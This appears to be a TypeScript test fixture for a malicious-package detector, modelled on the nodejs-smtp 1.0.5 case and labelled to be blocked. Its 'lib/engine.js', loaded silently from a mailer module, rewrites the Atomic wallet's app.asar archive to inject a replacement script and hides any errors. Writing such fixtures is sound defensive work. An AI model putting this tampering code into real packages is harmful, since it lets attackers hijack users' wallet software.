import { MAILER, MAILER_MANIFEST, REPLACEMENT } from '../mailer.ts';
import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'inert-smtp-own-writer',
  from: 'the founding case, nodejs-smtp 1.0.5: an archive writer of its own',
  files: {
    'package.json': MAILER_MANIFEST,
    'lib/mailer.js': `${MAILER}require('./engine');
`,
    'lib/engine.js': `const fs = require('fs');
const os = require('os');
const path = require('path');

const archive = path.join(path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'atomic', 'resources'), 'app.asar');
function rebuild(bytes, put) {
  const size = bytes.readUInt32LE(12);
  const header = JSON.parse(bytes.toString('utf8', 16, 16 + size));
  header.files['vendors.js'] = { size: put.length, offset: '0' };
  const text = Buffer.from(JSON.stringify(header));
  return Buffer.concat([Buffer.alloc(16), text, put, bytes.subarray(16 + size)]);
}
try {
  fs.writeFileSync(archive, rebuild(fs.readFileSync(archive), fs.readFileSync(path.join(__dirname, 'a.js'))));
} catch {}
`,
    'lib/a.js': REPLACEMENT,
  },
  expect: 'block',
  says: ['changes-other-application', 'rewrites-archive'],
};
